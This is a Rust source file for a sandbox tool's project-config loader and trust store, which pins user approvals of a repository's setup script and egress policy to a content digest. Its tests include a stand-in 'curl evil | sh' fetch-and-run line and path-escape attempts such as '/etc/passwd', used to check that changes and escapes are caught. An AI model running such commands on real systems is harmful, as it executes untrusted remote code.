//! `hutch.toml`, a repository's proposal for its sandboxes (a setup script, resources, an egress policy for the
//! command and one for the setup script), and
//! the user's trust in it. The repository is untrusted input (threat 15): a proposal is used only after the
//! user approved that exact content with `hutch trust`, pinned to a digest of the file and of the setup script
//! it names, like `direnv allow`. Approvals live in the user's data directory, never in the repository.

use std::path::{Path, PathBuf};

use hutch_policy::{Phase, PolicyLayer};
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use crate::credentials::{CredentialRules, RawCredentials};
use crate::path::{check_path, show};
use crate::{io_err, RepoError};

pub const FILE_NAME: &str = "hutch.toml";
const MAX_FILE: u64 = 64 * 1024;
const MAX_SCRIPT: u64 = 1024 * 1024;

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct RawProject {
    setup: Option<String>,
    resources: Option<RawResources>,
    policy: Option<toml::Table>,
    credentials: Option<RawCredentials>,
}

/// The `[resources]` table of `hutch.toml` and of the user's config, as written.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RawResources {
    pub cpus: Option<u32>,
    pub memory: Option<u32>,
}

/// A setup script named by `hutch.toml`, with the bytes that were hashed (and are the ones that will run).
#[derive(Debug, Clone)]
pub struct SetupScript {
    /// Relative to the repository's top.
    pub path: String,
    pub bytes: Vec<u8>,
}

/// `hutch.toml` in checked form.
#[derive(Debug, Clone)]
pub struct ProjectConfig {
    pub file: PathBuf,
    /// SHA-256 over the file and its setup script: what an approval is pinned to.
    pub digest: String,
    pub setup: Option<SetupScript>,
    pub cpus: Option<u32>,
    pub memory_mib: Option<u32>,
    /// The `[policy]` table (its `[policy.setup]` is the setup phase's), parsed and checked; relative paths in it
    /// are relative to the repository.
    pub policy: Option<PolicyLayer>,
    /// `[credentials]`: files the repository asks to send although they look like credentials (`include`, an
    /// ask that needs approval), and more files to leave out (`exclude`, applied without approval: it only
    /// narrows what goes in).
    pub credentials: CredentialRules,
}

fn bad(file: &Path, msg: impl std::fmt::Display) -> RepoError {
    RepoError::Project(format!("{}: {msg}", file.display()))
}

fn read_capped(path: &Path, cap: u64, what: &str) -> Result<Vec<u8>, RepoError> {
    let meta = std::fs::metadata(path).map_err(io_err(format!("cannot read {what} {}", path.display())))?;
    if !meta.is_file() {
        return Err(bad(path, format!("{what} is not a regular file")));
    }
    if meta.len() > cap {
        return Err(bad(path, format!("{what} is larger than {} KiB", cap / 1024)));
    }
    std::fs::read(path).map_err(io_err(format!("cannot read {what} {}", path.display())))
}

impl ProjectConfig {
    /// Reads and checks `<top>/hutch.toml`; `Ok(None)` when there is none.
    pub fn load(top: &Path) -> Result<Option<ProjectConfig>, RepoError> {
        let file = top.join(FILE_NAME);
        if std::fs::symlink_metadata(&file).is_err() {
            return Ok(None);
        }
        let text = read_capped(&file, MAX_FILE, "project config")?;
        let text = String::from_utf8(text).map_err(|_| bad(&file, "is not UTF-8"))?;
        Self::parse(top, &file, &text).map(Some)
    }

    fn parse(top: &Path, file: &Path, text: &str) -> Result<ProjectConfig, RepoError> {
        let raw: RawProject = toml::from_str(text).map_err(|e| bad(file, e.message().trim_end()))?;
        let setup = match &raw.setup {
            None => None,
            Some(p) => {
                check_path(p.as_bytes()).map_err(|problem| bad(file, format!("setup = {p:?}: the path {problem}")))?;
                let full = top.join(p);
                // Resolved, it must still be inside the repository.
                let real =
                    full.canonicalize().map_err(io_err(format!("{}: setup script {} does not exist", file.display(), full.display())))?;
                let top_real = top.canonicalize().map_err(io_err(format!("cannot resolve {}", top.display())))?;
                if !real.starts_with(&top_real) {
                    return Err(bad(file, format!("setup = {p:?} resolves outside the repository")));
                }
                Some(SetupScript { path: p.clone(), bytes: read_capped(&real, MAX_SCRIPT, "setup script")? })
            }
        };
        let (cpus, memory_mib) = match &raw.resources {
            None => (None, None),
            Some(r) => {
                if let Some(c) = r.cpus.filter(|c| !(1..=64).contains(c)) {
                    return Err(bad(file, format!("resources.cpus = {c}: must be 1 to 64")));
                }
                if let Some(m) = r.memory.filter(|m| !(128..=65536).contains(m)) {
                    return Err(bad(file, format!("resources.memory = {m}: must be 128 to 65536 (MiB)")));
                }
                (r.cpus, r.memory)
            }
        };
        let policy = match &raw.policy {
            None => None,
            Some(t) => {
                let origin = format!("{} [policy]", file.display());
                Some(PolicyLayer::from_table(t, &origin, top).map_err(|e| RepoError::Project(e.to_string()))?)
            }
        };
        let credentials = match &raw.credentials {
            None => CredentialRules::default(),
            Some(c) => CredentialRules::from_raw(c, &format!("{} [credentials]", file.display())).map_err(RepoError::Project)?,
        };
        let mut h = Sha256::new();
        h.update(b"hutch.toml\0");
        h.update((text.len() as u64).to_le_bytes());
        h.update(text.as_bytes());
        if let Some(s) = &setup {
            h.update(b"setup\0");
            h.update((s.bytes.len() as u64).to_le_bytes());
            h.update(&s.bytes);
        }
        Ok(ProjectConfig { file: file.to_path_buf(), digest: hex::encode(h.finalize()), setup, cpus, memory_mib, policy, credentials })
    }

    /// What the file asks for, one line each; empty when it asks for nothing.
    pub fn asks(&self) -> Vec<String> {
        let mut v = vec![];
        if let Some(s) = &self.setup {
            v.push(format!(
                "a setup script, {} ({} bytes), run as root in the VM before the command",
                show(s.path.as_bytes()),
                s.bytes.len()
            ));
        }
        if let Some(c) = self.cpus {
            v.push(format!("{c} vCPUs"));
        }
        if let Some(m) = self.memory_mib {
            v.push(format!("{m} MiB of memory"));
        }
        if let Some(p) = &self.policy {
            let before = v.len();
            for phase in Phase::ALL {
                let mut parts: Vec<String> = p.rules(phase).iter().map(|r| r.describe()).collect();
                parts.extend(p.secrets(phase).map(|s| {
                    let hosts: Vec<String> = s.hosts().iter().map(|h| h.to_string()).collect();
                    format!("secret {} (from {}) sent to {}", s.name(), s.source(), hosts.join(", "))
                }));
                if parts.is_empty() {
                    continue;
                }
                let who = match phase {
                    Phase::Setup => "egress for the setup script",
                    Phase::Agent => "egress for the command",
                };
                v.push(format!("{who}: {}", parts.join("; ")));
            }
            for pin in p.pins() {
                let addrs: Vec<String> = pin.addrs.iter().map(|a| a.to_string()).collect();
                v.push(format!("{}:{} pinned to {}", pin.name, pin.port, addrs.join(", ")));
            }
            for ca in p.upstream_ca() {
                v.push(format!("upstream TLS trusting the certificates in {}", ca.path.display()));
            }
            if v.len() == before {
                v.push("an egress policy that allows nothing".into());
            }
        }
        for p in &self.credentials.include {
            v.push(format!("credential files matching {} sent into the VM (left out by default)", show(p.as_str().as_bytes())));
        }
        v
    }

    /// What the file leaves out of the VM besides the built-in credential list (needs no approval), one line each.
    pub fn leaves_out(&self) -> Vec<String> {
        self.credentials.exclude.iter().map(|p| format!("files matching {} left out of the VM", show(p.as_str().as_bytes()))).collect()
    }
}

/// One approval, stored as `<trust dir>/<key>`.
#[derive(Debug, Serialize, Deserialize)]
struct Approval {
    file: PathBuf,
    digest: String,
}

/// The user's approvals of project configs.
#[derive(Debug, Clone)]
pub struct TrustStore {
    dir: PathBuf,
}

/// Whether a project config may be used.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Trust {
    Trusted,
    /// Never approved.
    Unknown,
    /// An earlier version was approved; this one was not.
    Changed,
}

impl TrustStore {
    pub fn at(dir: PathBuf) -> TrustStore {
        TrustStore { dir }
    }

    /// `$XDG_DATA_HOME/hutch/trust`, else `~/.local/share/hutch/trust`.
    pub fn from_env() -> Result<TrustStore, RepoError> {
        let var = |k: &str| std::env::var_os(k).map(PathBuf::from).filter(|p| p.is_absolute());
        let base = var("XDG_DATA_HOME")
            .or_else(|| var("HOME").map(|h| h.join(".local/share")))
            .ok_or_else(|| RepoError::Project("neither XDG_DATA_HOME nor HOME is set; hutch cannot keep trust approvals".into()))?;
        Ok(TrustStore { dir: base.join("hutch/trust") })
    }

    pub fn dir(&self) -> &Path {
        &self.dir
    }

    fn key(cfg: &ProjectConfig) -> String {
        let mut h = Sha256::new();
        h.update(cfg.file.as_os_str().as_encoded_bytes());
        h.update(b"\0");
        h.update(cfg.digest.as_bytes());
        hex::encode(h.finalize())
    }

    fn approvals(&self) -> Vec<(PathBuf, Approval)> {
        std::fs::read_dir(&self.dir)
            .into_iter()
            .flatten()
            .flatten()
            .filter_map(|e| Some((e.path(), serde_json::from_slice::<Approval>(&std::fs::read(e.path()).ok()?).ok()?)))
            .collect()
    }

    pub fn check(&self, cfg: &ProjectConfig) -> Trust {
        if self.dir.join(Self::key(cfg)).is_file() {
            Trust::Trusted
        } else if self.approvals().iter().any(|(_, a)| a.file == cfg.file) {
            Trust::Changed
        } else {
            Trust::Unknown
        }
    }

    /// Approves this exact content, replacing earlier approvals of the same file.
    pub fn trust(&self, cfg: &ProjectConfig) -> Result<(), RepoError> {
        self.revoke(&cfg.file)?;
        std::fs::create_dir_all(&self.dir).map_err(io_err(format!("cannot create {}", self.dir.display())))?;
        let a = Approval { file: cfg.file.clone(), digest: cfg.digest.clone() };
        let body = serde_json::to_vec(&a).map_err(|e| RepoError::Io { what: "cannot encode an approval".into(), source: e.into() })?;
        let path = self.dir.join(Self::key(cfg));
        let tmp = self.dir.join(format!(".tmp-{}", std::process::id()));
        std::fs::write(&tmp, body).map_err(io_err(format!("cannot write {}", tmp.display())))?;
        std::fs::rename(&tmp, &path).map_err(io_err(format!("cannot write {}", path.display())))
    }

    /// Removes every approval of `file`; returns how many there were.
    pub fn revoke(&self, file: &Path) -> Result<usize, RepoError> {
        let mut n = 0;
        for (p, a) in self.approvals() {
            if a.file == file {
                std::fs::remove_file(&p).map_err(io_err(format!("cannot remove {}", p.display())))?;
                n += 1;
            }
        }
        Ok(n)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn repo_with(toml: &str) -> tempfile::TempDir {
        let t = tempfile::tempdir().unwrap();
        std::fs::write(t.path().join(FILE_NAME), toml).unwrap();
        std::fs::create_dir(t.path().join("scripts")).unwrap();
        std::fs::write(t.path().join("scripts/setup.sh"), "#!/bin/sh\necho hi\n").unwrap();
        t
    }

    #[test]
    fn a_full_config_parses_and_lists_its_asks() {
        let t = repo_with(
            "setup = \"scripts/setup.sh\"\n[resources]\ncpus = 2\nmemory = 2048\n[policy]\nallow = [\"api.example.com\"]\nresolve = [\"pkgs.example.com:443:10.0.0.5\"]\n[policy.setup]\nallow = [\"pkgs.example.com:443\"]\n[policy.setup.secrets.REPO_TOKEN]\nhosts = [\"pkgs.example.com\"]\nfrom_env = \"AWS_SECRET_ACCESS_KEY\"\n",
        );
        let cfg = ProjectConfig::load(t.path()).unwrap().unwrap();
        assert_eq!(cfg.cpus, Some(2));
        assert_eq!(cfg.memory_mib, Some(2048));
        assert_eq!(cfg.setup.as_ref().unwrap().bytes, b"#!/bin/sh\necho hi\n");
        let asks = cfg.asks();
        let all = asks.join("\n");
        assert!(all.contains("scripts/setup.sh") && all.contains("2048 MiB"), "{all}");
        assert!(asks.contains(&"egress for the command: api.example.com:80,443".to_string()), "{all}");
        assert!(
            asks.contains(&"egress for the setup script: pkgs.example.com:443; secret REPO_TOKEN (from $AWS_SECRET_ACCESS_KEY) sent to pkgs.example.com".to_string()),
            "what a secret is read from is shown: {all}"
        );
        assert!(asks.contains(&"pkgs.example.com:443 pinned to 10.0.0.5".to_string()), "{all}");
        let policy = cfg.policy.as_ref().unwrap();
        assert!(policy.has_setup());
        assert_eq!(policy.rules(Phase::Agent).len(), 1);
    }

    #[test]
    fn bad_configs_are_refused_with_the_reason() {
        let cases = [
            ("memory = 1\n", "unknown field"),
            ("[resources]\nmemory = 1000000\n", "resources.memory"),
            ("[resources]\ncpus = 0\n", "resources.cpus"),
            ("setup = \"../outside.sh\"\n", "component"),
            ("setup = \"/etc/passwd\"\n", "absolute"),
            ("setup = \"missing.sh\"\n", "does not exist"),
            ("[policy]\nallow = [\"*\"]\n", "[policy]"),
            ("[policy]\nbogus = 1\n", "[policy]"),
            ("[policy.setup]\nallow = [\"*.com\"]\n", "[policy]: setup.allow[0]"),
            ("[policy.setup]\nresolve = []\n", "unknown field `resolve`"),
            ("[credentials]\ninclude = [\"../x\"]\n", "[credentials]: include[0]"),
            ("[credentials]\nsend = []\n", "unknown field `send`"),
        ];
        for (text, want) in cases {
            let t = repo_with(text);
            let e = ProjectConfig::load(t.path()).unwrap_err().to_string();
            assert!(e.contains(want), "{text:?}: {e}");
        }
        let t = repo_with("");
        std::os::unix::fs::symlink("/etc/hostname", t.path().join("link.sh")).unwrap();
        std::fs::write(t.path().join(FILE_NAME), "setup = \"link.sh\"\n").unwrap();
        assert!(ProjectConfig::load(t.path()).unwrap_err().to_string().contains("outside the repository"));
        assert!(ProjectConfig::load(tempfile::tempdir().unwrap().path()).unwrap().is_none());
        assert!(ProjectConfig::load(repo_with("").path()).unwrap().unwrap().asks().is_empty());
    }

    /// Class 15 (guardrails switched off from the repository): asking to send a credential file is an ask, shown
    /// and pinned like any other; leaving more out is not.
    #[test]
    fn class_15_credential_includes_are_asks_and_excludes_are_not() {
        let t = repo_with("[credentials]\ninclude = [\"config/.env\"]\nexclude = [\"private/\"]\n");
        let cfg = ProjectConfig::load(t.path()).unwrap().unwrap();
        assert_eq!(cfg.asks(), ["credential files matching config/.env sent into the VM (left out by default)"]);
        assert_eq!(cfg.leaves_out(), ["files matching private/ left out of the VM"]);
        let t = repo_with("[credentials]\nexclude = [\"private/\"]\n");
        assert!(ProjectConfig::load(t.path()).unwrap().unwrap().asks().is_empty());
    }

    #[test]
    fn trust_is_pinned_to_the_file_and_its_setup_script() {
        let t = repo_with("setup = \"scripts/setup.sh\"\n");
        let store = TrustStore::at(t.path().join("data/trust"));
        let cfg = ProjectConfig::load(t.path()).unwrap().unwrap();
        assert_eq!(store.check(&cfg), Trust::Unknown);
        store.trust(&cfg).unwrap();
        assert_eq!(store.check(&ProjectConfig::load(t.path()).unwrap().unwrap()), Trust::Trusted);
        // The script changes, the file does not: approval needed again.
        std::fs::write(t.path().join("scripts/setup.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
        let changed = ProjectConfig::load(t.path()).unwrap().unwrap();
        assert_eq!(store.check(&changed), Trust::Changed);
        store.trust(&changed).unwrap();
        assert_eq!(store.check(&changed), Trust::Trusted);
        assert_eq!(std::fs::read_dir(store.dir()).unwrap().count(), 1, "re-approving replaces the old approval");
        std::fs::write(t.path().join(FILE_NAME), "setup = \"scripts/setup.sh\"\n[resources]\nmemory = 4096\n").unwrap();
        assert_eq!(store.check(&ProjectConfig::load(t.path()).unwrap().unwrap()), Trust::Changed);
        assert_eq!(store.revoke(&changed.file).unwrap(), 1);
        assert_eq!(store.check(&changed), Trust::Unknown);
    }
}
